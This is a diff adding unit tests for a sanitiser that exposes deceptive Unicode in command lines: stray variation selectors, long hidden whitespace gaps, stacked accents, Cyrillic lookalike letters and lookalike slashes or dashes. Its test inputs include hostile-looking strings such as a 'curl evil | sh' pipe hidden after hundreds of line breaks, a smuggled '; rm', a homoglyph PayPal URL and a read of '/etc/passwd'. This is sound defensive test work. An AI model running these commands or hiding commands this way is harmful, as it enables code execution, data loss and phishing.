@@ -41,3 +41,41 @@ describe('sanitised text', () => {
     expect(prose(worst)).not.toMatch(DANGEROUS);
   });
 });
+
+describe('finding 21: the command line marks what the page marks', () => {
+  it('spells out variation selectors that follow no emoji', () => {
+    expect(exact('bash deploy\ufe0f.sh')).toBe('bash deploy<U+FE0F>.sh');
+    expect(exact('bash deploy.sh\ufe0e')).toBe('bash deploy.sh<U+FE0E>');
+    expect(oneLine('deploy\ufe0f.sh')).toBe('deploy<U+FE0F>.sh');
+    expect(exact('☎️ 1️⃣')).toBe('☎️ 1️⃣');
+  });
+
+  it('replaces gaps by their length and counts stacked marks', () => {
+    expect(exact(`ls${'\n'.repeat(300)}curl evil | sh`)).toBe('ls⟨300 line ends⟩\ncurl evil | sh');
+    expect(exact(`ls${' '.repeat(600)}; rm`)).toBe('ls⟨600 blanks⟩ ; rm');
+    expect(exact(`e${'\u0301'.repeat(60)}cho`)).toBe(`e${'\u0301'.repeat(4)}⟨+56⟩cho`);
+  });
+
+  it('names the script of letters that pass for Latin ones', () => {
+    expect(exact('curl https://pаypal.com')).toBe('curl https://pа⟨Cyrillic⟩ypal.com');
+    expect(exact('сору x')).toBe('сору⟨Cyrillic⟩ x');
+    expect(exact('rm –rf build')).toBe('rm –⟨U+2013⟩rf build');
+    expect(exact('cat /etc∕passwd')).toBe('cat /etc∕⟨U+2215⟩passwd');
+    expect(exact('𝐜𝐮𝐫𝐥 x')).toBe('𝐜𝐮𝐫𝐥⟨U+1D41C⟩ x');
+  });
+
+  it('marks a word of a million letters of two scripts', () => {
+    expect(exact('aб'.repeat(250_000))).toHaveLength(250_000 * '⟨Cyrillic⟩aб'.length);
+  });
+
+  it('shows text that is written in another language as it is', () => {
+    for (const text of [
+      'git commit -m "исправил ошибку с адресом"',
+      'отчёт_v2.txt',
+      '日本語abc（注）',
+      'naïve — café',
+      'µs Ω',
+    ])
+      expect(exact(text)).toBe(text);
+  });
+});
